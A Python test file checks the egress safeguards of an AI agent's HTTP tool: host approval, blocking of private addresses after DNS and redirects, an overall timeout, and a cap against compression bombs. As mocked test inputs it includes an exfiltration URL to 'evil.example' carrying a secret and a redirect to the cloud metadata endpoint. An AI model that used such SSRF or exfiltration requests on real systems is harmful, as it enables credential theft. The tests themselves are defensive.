"""HTTP egress (finding 4 and 11): unapproved hosts ask, private addresses ask after DNS and
after redirects, one deadline covers the whole call, bodies are capped on the wire and decoded.

The servers are real, on 127.0.0.1; "public" hosts are simulated with an httpx transport so no
packet leaves the machine.
"""

from __future__ import annotations

import gzip
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest

from aiq_tui.config import ToolSettings
from aiq_tui.conversation import ToolCall
from aiq_tui.tools.base import ApprovalRequest, Decision
from aiq_tui.tools.http import HttpRequestTool
from aiq_tui.tools.policy import PermissionPolicy
from aiq_tui.tools.registry import ToolRegistry, approve_all, deny_all


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass

    def do_GET(self) -> None:
        if (
            self.path == "/drip"
        ):  # a byte per 0.2 s: every read is quick, the whole is endless
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            try:
                for _ in range(200):
                    self.wfile.write(b"x")
                    self.wfile.flush()
                    time.sleep(0.2)
            except OSError:
                pass
            return
        if self.path == "/bomb":
            body = gzip.compress(b"\0" * 20_000_000)
            self.send_response(200)
            self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        body = b"secret internal page"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture(scope="module")
def local() -> Iterator[str]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()


def _registry(tool: HttpRequestTool) -> ToolRegistry:
    return ToolRegistry(
        [tool], PermissionPolicy(ToolSettings().permissions)
    )  # http_get: allow


async def _get(registry: ToolRegistry, url: str, approver: Any) -> Any:
    return await registry.invoke(
        ToolCall("1", "http_request", {"url": url}), approver, lambda e: None
    )


async def test_exfiltration_to_an_unapproved_host_needs_approval() -> None:
    """Finding 4: .env contents were sent to any host with zero approvals."""
    sent: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        sent.append(str(request.url))
        return httpx.Response(200, text="ok")

    tool = HttpRequestTool(ToolSettings(), transport=httpx.MockTransport(handler))
    refused = await _get(_registry(tool), "https://evil.example/?k=SECRET", deny_all)
    assert not refused.ok and sent == []


async def test_host_approval_is_per_host_and_remembered_for_the_session() -> None:
    tool = HttpRequestTool(
        ToolSettings(),
        transport=httpx.MockTransport(lambda r: httpx.Response(200, text="ok")),
    )
    registry = _registry(tool)
    asked: list[str] = []

    async def always(request: ApprovalRequest) -> Decision:
        asked.append(request.permission)
        return Decision.ALLOW_ALWAYS

    for url in (
        "https://docs.example/a",
        "https://docs.example/b",
        "https://other.example/",
    ):
        assert (await _get(registry, url, always)).ok
    assert asked == ["http_get:docs.example", "http_get:other.example"]


async def test_allowed_hosts_in_config_do_not_ask() -> None:
    tool = HttpRequestTool(
        ToolSettings(http_allowed_hosts=["docs.example"]),
        transport=httpx.MockTransport(lambda r: httpx.Response(200, text="ok")),
    )
    assert (await _get(_registry(tool), "https://docs.example/a", deny_all)).ok


async def test_loopback_asks_even_for_an_approved_host(local: str) -> None:
    tool = HttpRequestTool(ToolSettings(http_allowed_hosts=["127.0.0.1", "localhost"]))
    refused = await _get(_registry(tool), f"{local}/", deny_all)
    assert not refused.ok and "non-public address" in refused.error
    asked: list[str] = []

    async def once(request: ApprovalRequest) -> Decision:
        asked.append(request.permission)
        return Decision.ALLOW_ONCE

    allowed = await _get(_registry(tool), f"{local}/", once)
    assert allowed.ok and asked == ["http_private:127.0.0.1"]
    by_name = await _get(
        _registry(tool), local.replace("127.0.0.1", "localhost") + "/", deny_all
    )
    assert not by_name.ok  # after DNS: localhost is loopback too


async def test_a_redirect_to_a_private_address_asks(local: str) -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.host == "public.example":
            return httpx.Response(
                302, headers={"Location": "http://169.254.169.254/latest/meta-data/"}
            )
        return httpx.Response(200, text="cloud credentials")

    tool = HttpRequestTool(
        ToolSettings(http_allowed_hosts=["public.example", "169.254.169.254"]),
        transport=httpx.MockTransport(handler),
    )
    result = await _get(_registry(tool), "http://public.example/", deny_all)
    assert (
        not result.ok
        and "169.254.169.254" in result.error
        and "credentials" not in str(result.content)
    )


async def test_a_redirect_to_another_host_asks_for_that_host() -> None:
    def handler(request: httpx.Request) -> httpx.Response:
        if request.url.host == "public.example":
            return httpx.Response(
                302, headers={"Location": "https://elsewhere.example/x"}
            )
        return httpx.Response(200, text="elsewhere")

    tool = HttpRequestTool(
        ToolSettings(http_allowed_hosts=["public.example"]),
        transport=httpx.MockTransport(handler),
    )
    refused = await _get(_registry(tool), "https://public.example/", deny_all)
    assert not refused.ok and "elsewhere.example" in refused.error
    allowed = await _get(_registry(tool), "https://public.example/", approve_all)
    assert allowed.ok and allowed.content["redirects"] == 1


async def test_http_get_deny_denies_every_host() -> None:
    tool = HttpRequestTool(
        ToolSettings(), transport=httpx.MockTransport(lambda r: httpx.Response(200))
    )
    registry = ToolRegistry(
        [tool], PermissionPolicy({**ToolSettings().permissions, "http_get": "deny"})
    )
    assert not (await _get(registry, "https://any.example/", approve_all)).ok


async def test_the_deadline_covers_the_whole_body(local: str) -> None:
    """Finding 11: a per-read timeout of 5 s let a dripping body run for 45 s."""
    tool = HttpRequestTool(ToolSettings(http_timeout_seconds=1.5))
    started = time.monotonic()
    result = await tool.run({"url": f"{local}/drip"})
    assert not result.ok and "timed out after 1.5 s" in result.error
    assert time.monotonic() - started < 10


async def test_a_compression_bomb_is_cut_at_the_byte_cap(local: str) -> None:
    tool = HttpRequestTool(ToolSettings(http_max_bytes=100_000))
    result = await tool.run({"url": f"{local}/bomb"})
    assert (
        result.ok and result.content["truncated"] and result.content["bytes"] <= 100_000
    )
